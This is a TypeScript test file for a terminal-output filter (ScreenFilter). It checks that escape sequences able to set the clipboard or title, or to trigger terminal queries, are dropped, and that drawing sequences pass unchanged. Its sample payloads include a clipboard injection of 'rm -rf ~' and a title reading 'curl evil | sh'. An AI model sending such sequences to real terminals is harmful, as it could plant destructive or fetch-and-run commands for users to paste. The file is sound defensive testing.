import { createRequire } from 'node:module'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { ScreenFilter } from '../src/screen/screen-filter.ts'

const require = createRequire(import.meta.url)
const { Terminal } = require('@xterm/headless') as typeof import('@xterm/headless')

const ESC = '\x1b'

/** Bytes the filter passes of `text`, pushed in the chunks `cuts` split it into. */
function filtered(text: string | Buffer, cuts: number[] = []): string {
  const bytes = typeof text === 'string' ? Buffer.from(text, 'utf8') : text
  const filter = new ScreenFilter()
  const out: Buffer[] = []
  let at = 0
  for (const cut of [...cuts.filter((c) => c > 0 && c < bytes.length).sort((a, b) => a - b), bytes.length]) {
    out.push(filter.push(bytes.subarray(at, cut)))
    at = cut
  }
  return Buffer.concat(out).toString('utf8')
}

/** What a person's terminal would be made to do or answer, one entry per attack the issue names and its relatives. */
const ACTIONS: Record<string, string> = {
  'OSC 52 (set the clipboard)': `${ESC}]52;c;${Buffer.from('rm -rf ~\n').toString('base64')}\x07`,
  'OSC 0 (set the title), ended by ST': `${ESC}]0;curl evil | sh${ESC}\\`,
  'OSC 8 (a hyperlink opened)': `${ESC}]8;;https://example.invalid/${ESC}\\`,
  'OSC 11 query (background colour)': `${ESC}]11;?\x07`,
  'CSI 21 t (report the title)': `${ESC}[21t`,
  'CSI 14 t (report the window size)': `${ESC}[14t`,
  'CSI 6 n (report the cursor)': `${ESC}[6n`,
  'CSI c (device attributes)': `${ESC}[c`,
  'CSI > c (secondary attributes)': `${ESC}[>c`,
  'CSI > q (XTVERSION)': `${ESC}[>q`,
  'CSI ? 1 $ p (DECRQM)': `${ESC}[?1$p`,
  'CSI > 1 u (keyboard protocol)': `${ESC}[>1u`,
  'DCS $ q m ST (DECRQSS)': `${ESC}P$qm${ESC}\\`,
  'DCS + q (XTGETTCAP)': `${ESC}P+q544e${ESC}\\`,
  'APC string': `${ESC}_Gf=100;AAAA${ESC}\\`,
  'ENQ (answerback)': '\x05',
  'ESC Z (identify)': `${ESC}Z`,
  'REP with a huge count': `x${ESC}[99999999b`,
  'S8C1T (8-bit replies)': `${ESC} G`,
}

/** Sequences that only draw: they must pass unchanged. */
const DRAWING: Record<string, string> = {
  text: 'hello, world',
  'UTF-8': 'naïve — 日本語 🎉',
  'CR LF, tab, backspace, bell': 'a\r\nb\tc\bd\x07',
  SGR: `${ESC}[1;31;48;5;22mred${ESC}[0m`,
  'truecolour SGR with colons': `${ESC}[38:2::10:20:30mx${ESC}[m`,
  'cursor moves and erases': `${ESC}[2;5H${ESC}[K${ESC}[2J${ESC}[3A${ESC}[10G${ESC}[1P${ESC}[2@`,
  'alternate screen and cursor keys': `${ESC}[?1049h${ESC}[?1h${ESC}=${ESC}[?25l${ESC}[?1049l`,
  'scroll region and scrolling': `${ESC}[5;20r${ESC}[2S${ESC}[1T${ESC}D${ESC}M`,
  'save and restore the cursor': `${ESC}7${ESC}8${ESC}[s${ESC}[u`,
  'character sets': `${ESC}(0lqqk${ESC}(B`,
  'cursor style': `${ESC}[2 q`,
  'bracketed paste and mouse modes': `${ESC}[?2004h${ESC}[?1000h${ESC}[?1006h${ESC}[?1006l`,
}

function screenOf(bytes: string): Promise<string[]> {
  const term = new Terminal({ cols: 60, rows: 12, allowProposedApi: true })
  return new Promise((resolve) => {
    term.write(bytes, () => {
      const b = term.buffer.active
      const rows = Array.from({ length: 12 }, (_, y) => b.getLine(b.baseY + y)?.translateToString(true) ?? '')
      term.dispose()
      resolve(rows)
    })
  })
}

describe('what a person attached to a shell receives (ScreenFilter)', () => {
  for (const [name, bytes] of Object.entries(ACTIONS)) {
    it(`drops ${name}, whole, however it is split`, () => {
      const full = Buffer.from(bytes)
      for (let cut = 0; cut <= full.length; cut++) {
        const out = filtered(`before${bytes}after`, [6 + cut])
        expect(out.replace(/x/g, ''), `cut at ${cut}`).toBe('beforeafter'.replace(/x/g, ''))
      }
    })
  }

  for (const [name, bytes] of Object.entries(DRAWING)) {
    it(`passes ${name} unchanged`, () => {
      expect(filtered(bytes)).toBe(bytes)
      expect(filtered(bytes, [1, 3, 5, 8])).toBe(bytes)
    })
  }

  it('turns C1 controls (8-bit and as UTF-8) and broken UTF-8 into U+FFFD, never into a CSI or OSC', () => {
    const out = filtered(Buffer.from([0x61, 0x9b, 0x36, 0x6e, 0xc2, 0x9d, 0x30, 0x3b, 0x07, 0xe2, 0x28, 0x62]))
    expect(out).toBe('a\ufffd6n\ufffd0;\x07\ufffd(b')
    expect(out).not.toMatch(/[\x80-\x9f]/)
  })

  it('for any mix of drawing and terminal actions, split anywhere: no action gets through, and the screen is the one the raw output draws', async () => {
    const token = fc.constantFrom(...Object.values(DRAWING), ...Object.values(ACTIONS).filter((a) => !a.includes('b')), 'line\r\n')
    await fc.assert(
      fc.asyncProperty(fc.array(token, { maxLength: 30 }), fc.array(fc.nat({ max: 400 }), { maxLength: 6 }), async (tokens, cuts) => {
        const raw = tokens.join('')
        const out = filtered(raw, cuts)
        // Chunking never changes what passes.
        expect(out).toBe(filtered(raw))
        // Nothing that acts on the terminal: no string (OSC, DCS, APC, PM, SOS), no query.
        expect(out).not.toMatch(/\x1b[\]P_^X]|\x05|\x1bZ|\x1b\[[>=<]|\x1b\[[0-9;?]*[nct]|\$p|\x1b [FG]/)
        // The screen is the same: what was dropped draws nothing.
        expect(await screenOf(out)).toEqual(await screenOf(raw))
      }),
      { numRuns: 150 },
    )
  })
})
